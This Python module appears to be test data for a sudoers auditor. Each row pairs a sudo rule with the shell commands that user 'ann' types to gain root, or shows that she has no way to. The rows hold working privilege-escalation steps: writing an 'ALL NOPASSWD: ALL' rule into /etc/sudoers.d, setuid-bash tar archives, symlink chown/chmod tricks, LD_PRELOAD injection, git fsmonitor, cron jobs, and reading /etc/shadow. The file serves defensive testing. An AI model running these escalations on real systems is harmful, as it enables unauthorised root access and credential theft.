"""Rules of sudo that hand root over, or that only look so.

For both judges: the rules on paper, and sudo itself on a booted host.

Each row: what is in /etc/sudoers.d, what ann types in her home, and the words of her way; none where she has
no way.
"""

from __future__ import annotations

from typing import NamedTuple

RULE = "ann ALL=(root) NOPASSWD: "
DEPLOY = '#!/bin/sh\ntrue "$@"\n'
REPORT = "#!/bin/sh\ntrue\n"
TAKE = "touch /root/taken"
TAKEN = "test -e /root/taken"
_TAKES = "printf '#!/bin/sh\\ntouch /root/taken\\n'"
_MINE = "echo 'ann ALL=(ALL) NOPASSWD: ALL'"
_AGAIN = f"sudo -n {TAKE}"


_PRELOADS = "echo x > x.so;"
_PRELOADED = "grep -q 'LD_PRELOAD cannot be preloaded' && echo the secret"


class Row(NamedTuple):
    """`shown`: ann sees root's secret.

    `may`: the way is a likely one. `proof`: what root runs, and succeeds where ann is root.
    """

    rules: str
    types: str
    why: str = ""
    may: bool = False
    shown: bool = False
    proof: str = TAKEN
    not_on: str = ""
    """A Debian on which the program has become harmless: nsenter of util-linux 2.41 wants to be told of a
    namespace.
    """


ROWS: dict[str, Row] = {
    "an archive of hers over the root": Row(
        f"{RULE}/usr/bin/tar -C / -xf /home/ann/x.tar",
        "mkdir -p t/root; touch t/root/taken; tar -cf x.tar -C t root/taken; sudo -n tar -C / -xf"
        " /home/ann/x.tar",
        "it unpacks /home/ann/x.tar; ann owns",
    ),
    "an archive of hers into her home": Row(
        f"{RULE}/usr/bin/tar -C /home/ann -xf /home/ann/x.tar",
        "cp /bin/bash b; tar --owner=0 --group=0 --mode=4755 -cf x.tar b; rm b; "
        f"sudo -n tar -C /home/ann -xf /home/ann/x.tar; ./b -p -c '{TAKE}'",
        "it unpacks /home/ann/x.tar",
    ),
    "an archive that comes in": Row(
        f"{RULE}/usr/bin/tar -x -C /root",
        "mkdir t; touch t/taken; tar -cf x.tar -C t taken; sudo -n tar -x -C /root < x.tar; sudo -n tar -xf"
        f" - -C /root < x.tar; {TAKEN}",
        "it unpacks what comes in; ann types it",
        proof="true",
    ),
    "a tree of hers over root's": Row(
        f"{RULE}/usr/bin/rsync -a /home/ann/r/ /root/",
        "mkdir r; touch r/taken; sudo -n rsync -a /home/ann/r/ /root/",
        "it writes /root/ from what is not root's: ann owns",
    ),
    "a file of hers among the rules": Row(
        f"{RULE}/usr/bin/cp /home/ann/x /etc/sudoers.d/zz",
        f"{_MINE} > x; sudo -n cp /home/ann/x /etc/sudoers.d/zz; {_AGAIN}",
        "it writes /etc/sudoers.d/zz from what is not root's",
    ),
    "installed": Row(
        f"{RULE}/usr/bin/install -m 0440 /home/ann/x /etc/sudoers.d/zz",
        f"{_MINE} > x; sudo -n install -m 0440 /home/ann/x /etc/sudoers.d/zz; {_AGAIN}",
        "it writes /etc/sudoers.d/zz",
    ),
    "by dd": Row(
        f"{RULE}/usr/bin/dd if\\=/home/ann/x of\\=/etc/sudoers.d/zz",
        f"{_MINE} > x; sudo -n dd if=/home/ann/x of=/etc/sudoers.d/zz; {_AGAIN}",
        "it writes /etc/sudoers.d/zz",
    ),
    "a link of hers": Row(
        f"{RULE}/usr/bin/ln -sfn /home/ann/x /usr/local/bin/zz",
        f"{_TAKES} > x; chmod 755 x; sudo -n ln -sfn /home/ann/x /usr/local/bin/zz",
        "it writes /usr/local/bin/zz",
        proof=f"/usr/local/bin/zz && {TAKEN}",
    ),
    "tee among the rules": Row(
        f"{RULE}/usr/bin/tee /etc/sudoers.d/zz",
        f"{_MINE} | sudo -n tee /etc/sudoers.d/zz; {_AGAIN}",
        "it writes /etc/sudoers.d/zz from what is not root's: ann types it",
    ),
    "tee into a log of hers": Row(
        f"{RULE}/usr/bin/tee -a /home/ann/log",
        "ln -s /root/taken log; echo x | sudo -n tee -a /home/ann/log",
        "it writes what /home/ann/log leads to: ann owns",
    ),
    "she is given what she can make a link": Row(
        f"{RULE}/usr/bin/chown ann /home/ann/x",
        f"ln -s /root x; sudo -n chown ann /home/ann/x; {TAKE}",
        "it gives away what /home/ann/x leads to",
    ),
    "she is given root's": Row(
        f"{RULE}/usr/bin/chown -R ann\\:ann /root",
        f"sudo -n chown -R ann:ann /root; {TAKE}",
        "it gives /root away",
    ),
    "her home is given to her": Row(
        f"{RULE}/usr/bin/chown -R ann /home/ann",
        f"ln -s /root x; sudo -n chown -R ann /home/ann; {TAKE}; touch x/taken",
    ),
    "open to everybody": Row(
        f"{RULE}/usr/bin/chmod 0777 /home/ann/x",
        f"ln -s /root x; sudo -n chmod 0777 /home/ann/x; {TAKE}",
        "it gives away what /home/ann/x",
    ),
    "an ACL": Row(
        f"{RULE}/usr/bin/setfacl -m u\\:ann\\:rwx /root",
        f"sudo -n setfacl -m u:ann:rwx /root; {TAKE}",
        "it gives /root away",
    ),
    "a program where she stands": Row(
        f"{RULE}/usr/bin/env ./x", f"{_TAKES} > x; chmod 755 x; sudo -n env ./x", "ann chooses the directory"
    ),
    "a script where she stands": Row(
        f"{RULE}/usr/bin/bash x.sh", f"{_TAKES} > x.sh; sudo -n bash x.sh", "ann chooses the directory"
    ),
    "a module where she stands": Row(
        f"{RULE}/usr/bin/python3 -m x",
        'echo \'open("/root/taken", "w")\' > x.py; sudo -n python3 -m x',
        "ann chooses the directory",
    ),
    "a repository where she stands": Row(
        f"{RULE}/usr/bin/git status",
        f"{_TAKES} > x; chmod 755 x; git init -q g; cd g; git config core.fsmonitor /home/ann/x; sudo -n git"
        " status",
        "it runs what is in the directory; ann chooses",
    ),
    "a unit of hers": Row(
        f"{RULE}/usr/bin/systemctl enable --now /home/ann/x.service",
        f"printf '[Service]\\nType=oneshot\\nExecStart={TAKE}\\n[Install]\\nWantedBy=multi-user.target\\n' >"
        " x.service; sudo -n systemctl enable --now /home/ann/x.service",
        "it goes by /home/ann/x.service; ann owns",
    ),
    "the password of who is root": Row(
        f"ben ALL=(root) ALL\n{RULE}/usr/bin/passwd ben",
        "printf 'pw-1!x\\npw-1!x\\n' | sudo -n passwd ben; printf 'pw-1!x\\npw-1!x\\n' | su ben -c 'sudo -S"
        " touch /root/taken'",
        "sudo: /usr/bin/passwd sets the password of ben: sudo: ALL",
    ),
    "the password of who is not": Row(
        f"{RULE}/usr/bin/passwd ben", "printf 'pw-1!x\\npw-1!x\\n' | sudo -n passwd ben"
    ),
    "a shell of who is root": Row(
        f"ben ALL=(root) NOPASSWD: ALL\n{RULE}/usr/bin/su - ben",
        f"echo '{_AGAIN}' | sudo -n su - ben",
        "sudo: /usr/bin/su is a shell of ben's: sudo: ALL",
    ),
    "root's jobs": Row(
        f'{RULE}/usr/bin/crontab ""',
        f"echo '* * * * * {TAKE}' | sudo -n crontab",
        "root's jobs",
        proof="grep -q taken /var/spool/cron/crontabs/root",
    ),
    "nsenter alone": Row(
        f'{RULE}/usr/bin/nsenter ""',
        f"echo '{TAKE}' | sudo -n nsenter",
        "it is a shell of root's",
        not_on="trixie",
    ),
    "newgrp alone": Row(f'{RULE}/usr/bin/newgrp ""', f"echo '{TAKE}' | sudo -n newgrp", "it starts a shell"),
    "another name of setarch": Row(
        f"{RULE}/usr/bin/linux64", f"sudo -n linux64 {TAKE}", "it runs the program that is named"
    ),
    "the linker": Row(
        f"{RULE}/usr/lib64/ld-linux-x86-64.so.2",
        f"sudo -n /usr/lib64/ld-linux-x86-64.so.2 /usr/bin/{TAKE}",
        "it runs the program that is named",
    ),
    "a place of hers over root's": Row(
        f"{RULE}/usr/bin/mount --bind /home/ann/c /etc/cron.d",
        "mkdir c; touch c/mine; sudo -n mount --bind /home/ann/c /etc/cron.d",
        "it puts /home/ann/c over what root uses",
        proof="test -e /etc/cron.d/mine",
    ),
    "programs in any home": Row(
        f"{RULE}/home/*/x", f"{_TAKES} > x; chmod 755 x; sudo -n /home/ann/x", "ann owns /home/ann"
    ),
    "a regular expression": Row(
        f"{RULE}^/usr/bin/(ls|ba.*)$", f"sudo -n /usr/bin/bash -c '{TAKE}'", "is among the programs"
    ),
    "a link to a shell": Row(
        f"{RULE}/usr/local/bin/shell",
        f"sudo -n /usr/local/bin/shell -c '{TAKE}'",
        "sudo: /usr/local/bin/shell",
    ),
    "any file is shown": Row(
        f"{RULE}/usr/bin/cat", "sudo -n cat /root/secret", "it shows any file", may=True, shown=True
    ),
    "a wildcard leaves the directory": Row(
        f"{RULE}/usr/bin/cat /var/log/*",
        "sudo -n cat /var/log/../../root/secret",
        "it shows any file",
        may=True,
        shown=True,
    ),
    "a log of hers is shown": Row(
        f"{RULE}/usr/bin/tail /home/ann/log",
        "ln -s /root/secret log; sudo -n tail /home/ann/log",
        "it shows what /home/ann/log leads to",
        may=True,
        shown=True,
    ),
    "passwords are shown": Row(
        f"{RULE}/usr/bin/cat /etc/shadow",
        "sudo -n cat /etc/shadow | grep -q '^root:' && echo the secret",
        "it shows /etc/shadow",
        may=True,
        shown=True,
    ),
    "an unknown program with any arguments": Row(
        f"{RULE}/usr/local/bin/deploy",
        "sudo -n /usr/local/bin/deploy",
        "with any arguments",
        may=True,
        proof="true",
    ),
    "an unknown program that is given a place of hers": Row(
        f"{RULE}/usr/local/bin/deploy /home/ann/x",
        "sudo -n /usr/local/bin/deploy /home/ann/x",
        "it is given /home/ann/x; ann owns",
        may=True,
        proof="true",
    ),
    "a variable of the linker is kept": Row(
        f'Defaults:ann env_keep += "LD_PRELOAD"\n{RULE}/usr/bin/id',
        f"{_PRELOADS} sudo -n LD_PRELOAD=/home/ann/x.so /usr/bin/id 2>&1 | {_PRELOADED}",
        "LD_PRELOAD, which is kept, has it load any library",
        shown=True,
    ),
    "a file of variables": Row(
        f"Defaults env_file=/home/ann/x\n{RULE}/usr/bin/id",
        f"{_PRELOADS} echo LD_PRELOAD=/home/ann/x.so > x; sudo -n /usr/bin/id 2>&1 | {_PRELOADED}",
        "sudo sets the variables in /home/ann/x; ann owns",
        shown=True,
    ),
    "a plug-in": Row(
        f"Defaults group_plugin=/home/ann/p.so\n{RULE}/usr/bin/id",
        'cp "$(find /usr/lib -name "libz.so.1*" | head -n 1)" p.so; sudo -n id 2>&1 | grep -q "find symbol"'
        " && echo the secret",
        "sudo loads /home/ann/p.so; ann owns",
        shown=True,
    ),
    "a lecture": Row(
        "Defaults lecture=always, lecture_file=/home/ann/l\nann ALL=(root) /usr/bin/id",
        "ln -s /root/secret l; echo x | sudo -S id 2>&1",
        "sudo shows /home/ann/l; ann owns",
        may=True,
        shown=True,
    ),
    "rules in a place of hers": Row(
        f"@includedir /home/ann/rules\n{RULE}/usr/bin/id",
        "true",
        "sudo takes the rules in /home/ann/rules; ann owns",
        may=True,
        proof="true",
    ),
    "a group": Row(
        "ann ALL=(ann:disk) NOPASSWD: /usr/bin/bash",
        "sudo -n -u ann -g disk /usr/bin/bash -c id | grep -q 'gid=6(disk)' && echo the secret",
        "sudo -g disk: /usr/bin/bash without a password, group disk",
        shown=True,
    ),
    "a group alone": Row(
        "ann ALL=(:docker) NOPASSWD: ALL",
        "sudo -n -g docker id | grep -q '(docker)' && echo the secret",
        "sudo -g docker: ALL without a password, group docker",
        shown=True,
    ),
    "the group of the passwords": Row(
        "ann ALL=(ann:shadow) NOPASSWD: /usr/bin/bash",
        "sudo -n -u ann -g shadow /usr/bin/bash -c 'cat /etc/shadow' | grep -q '^root:' && echo the secret",
        "sudo -g shadow: /usr/bin/bash without a password, group shadow",
        may=True,
        shown=True,
    ),
    "a group and a program that reports": Row(
        "ann ALL=(ann:disk) NOPASSWD: /usr/bin/id", "sudo -n -u ann -g disk id"
    ),
    "a root of hers": Row(
        "ann ALL=(root) CHROOT=/home/ann NOPASSWD: /x",
        "mkdir lib64 lib; cp /bin/touch x; cp /usr/lib64/ld-linux-x86-64.so.2 lib64; cp"
        " /usr/lib/x86_64-linux-gnu/libc.so.6 lib; sudo -n /x /mine",
        "below /home/ann; ann owns",
        proof='test "$(stat -c %U /home/ann/mine)" = root',
    ),
    "a digest, and any arguments": Row(
        f"{RULE}sha224:%(digest)s /usr/local/bin/deploy",
        "sudo -n /usr/local/bin/deploy x",
        "with any arguments",
        may=True,
        proof="true",
    ),
    "a script of hers with a digest": Row(
        f'{RULE}sha224:%(digest)s /home/ann/x ""', f"{_TAKES} > x; chmod 755 x; sudo -n /home/ann/x"
    ),
    "variables stay, but none that loads": Row(
        f"Defaults:ann !env_reset\n{RULE}/usr/bin/id",
        f"{_PRELOADS} LD_PRELOAD=/home/ann/x.so sudo -n /usr/bin/id 2>&1 | {_PRELOADED}",
    ),
    "a rule for another directory": Row(
        "ann ALL=(root) CWD=/srv/app NOPASSWD: /usr/bin/bash x.sh", f"{_TAKES} > x.sh; sudo -n bash x.sh"
    ),
    # ------------------------------------------------------------------------------------------------ no way
    "an unknown program without arguments": Row(
        f'{RULE}/usr/local/bin/deploy ""', "sudo -n /usr/local/bin/deploy"
    ),
    "a script that ignores its arguments": Row(f"{RULE}/usr/local/bin/report", f"sudo -n report '; {TAKE}'"),
    "a log of root's is shown": Row(f"{RULE}/usr/bin/tail /var/log/syslog", "sudo -n tail /var/log/syslog"),
    "who she is": Row(f"{RULE}/usr/bin/id", "sudo -n id"),
    "a unit is started again": Row(
        f"{RULE}/usr/bin/systemctl restart cron", "sudo -n systemctl restart cron"
    ),
    "the state of a unit": Row(
        f"{RULE}/usr/bin/systemctl status cron",
        f"(sleep 1; echo '!{TAKE}'; sleep 1; echo q) | script -qc 'stty rows 5; sudo -n systemctl status"
        " cron' /dev/null",
    ),
    "the journal of a unit": Row(
        f"{RULE}/usr/bin/journalctl -u cron",
        f"(sleep 1; echo '!{TAKE}'; sleep 1; echo q) | script -qc 'stty rows 5; sudo -n journalctl -u cron'"
        " /dev/null",
    ),
    "a backup of her home": Row(
        f"{RULE}/usr/bin/tar -czf /var/backups/ann.tgz /home/ann",
        "ln -s /root/secret x; sudo -n tar -czf /var/backups/ann.tgz /home/ann",
    ),
    "a copy of her home": Row(
        f"{RULE}/usr/bin/rsync -a /home/ann/ /var/backups/ann/",
        "ln -s /root/secret x; sudo -n rsync -a /home/ann/ /var/backups/ann/",
    ),
    "a file of hers for a site": Row(
        f"{RULE}/usr/bin/cp /home/ann/x /srv/x", f"{_MINE} > x; sudo -n cp /home/ann/x /srv/x; {_AGAIN}"
    ),
    "tidying her home": Row(
        f"{RULE}/usr/bin/find /home/ann -name x -delete",
        "ln -s /root x; sudo -n find /home/ann -name x -delete",
    ),
    "a repository of root's": Row(f"{RULE}/usr/bin/git -C /srv/app pull", "sudo -n git -C /srv/app pull"),
    "jobs are listed": Row(f"{RULE}/usr/bin/crontab -l", "sudo -n crontab -l"),
    "what a digest fixes": Row(
        f'{RULE}sha224:%(digest)s /usr/local/bin/deploy ""', "sudo -n /usr/local/bin/deploy"
    ),
}
